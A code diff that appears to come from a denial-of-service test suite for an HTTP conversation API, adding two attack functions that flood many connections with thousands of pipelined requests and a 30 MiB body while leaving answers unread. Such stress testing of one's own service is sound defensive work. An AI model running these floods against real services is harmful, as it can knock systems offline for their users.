@@ -161,6 +161,37 @@ def unread_answers(target: Target) -> None:
 
 
 @attack
+def pipelined_requests(target: Target) -> None:
+    """Very many short requests in one piece, on each of many connections, whose answers are not read for a while."""
+    connections = [connected(target.http) for _ in range(60)]
+    asks = head("GET", "/openapi.json") + b"GET / HTTP/1.1\r\n\r\n" * 13_800
+    for connection in connections:
+        connection.setblocking(False)
+        connection.send(asks)
+    time.sleep(1)
+    held(connections)
+
+
+@attack
+def pipelined_bodies(target: Target) -> None:
+    """The body of a request that waits for answers: each before it would let in more, and the last two are not read."""
+    connections = [connected(target.http) for _ in range(40)]
+    path = f"/v1/conversations/{target.conversation}"
+    asks = head("GET", path) * 30 + head("GET", f"{path}/items?limit=1") * 2
+    asks += head("POST", "/v1/conversations", JSON, f"content-length: {30 * MIB}") + b" " * 20 * MIB
+
+    def one(connection: socket.socket) -> None:
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        with suppress(OSError):
+            connection.sendall(asks)
+
+    threads = [threading.Thread(target=one, args=[each], daemon=True) for each in connections]
+    for thread in threads:
+        thread.start()
+    dropped(connections)
+
+
+@attack
 def unread_events(target: Target) -> None:
     """Watches of a conversation whose events are never read."""
     connections = [connected(target.http) for _ in range(40)]
